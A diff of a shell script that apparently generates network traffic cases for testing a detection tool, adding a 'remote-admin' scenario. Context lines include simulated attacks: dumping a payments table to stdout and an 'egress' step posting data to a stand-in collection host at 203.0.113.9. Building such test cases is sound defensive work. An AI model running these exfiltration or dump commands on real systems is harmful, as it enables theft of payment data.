@@ -49,7 +49,7 @@ play_allowed_day() {
   query orders orders -c 'SELECT * FROM payments LIMIT 3' -c 'SELECT pg_sleep(0.4)' \
     -c 'SELECT * FROM payments LIMIT 4' -c 'SELECT pg_sleep(0.2)' -c 'SELECT count(*) FROM payments' &
   local database=$!
-  shell_on_jump admin 'for i in 1 2 3 4; do uptime; sleep 0.15; done' >/dev/null &
+  shell_on admin jump 'for i in 1 2 3 4; do uptime; sleep 0.15; done' >/dev/null &
   local shell=$!
   get inet --data 'item=42' https://10.2.0.10/order
   get ws --data 'item=43' https://10.2.0.10/order
@@ -64,6 +64,7 @@ play_lateral() {
   get ws http://10.3.0.5:8080/
   query orders orders -c 'COPY payments TO STDOUT'
 }
+play_remote_admin() { shell_on ws orders 'uptime' >/dev/null; }
 play_egress() { get db --data 'chunk=1' http://203.0.113.9/collect; }
 play_ipv6() {
   get ws 'https://[fd00:2::10]/'
@@ -83,7 +84,7 @@ derive_vlan() {
   /usr/bin/python3 "$HERE/tag.py" "$CASES/ws-to-db/traffic.pcap" "$CASES/vlan/traffic.pcap"
 }
 
-ALL='allowed-day ws-to-db ws-to-db-refused clear-cards clear-cards-fail-luhn lateral egress ipv6 midstream vlan'
+ALL='allowed-day ws-to-db ws-to-db-refused clear-cards clear-cards-fail-luhn lateral remote-admin egress ipv6 midstream vlan'
 net_up
 services_up
 for name in ${*:-$ALL}; do
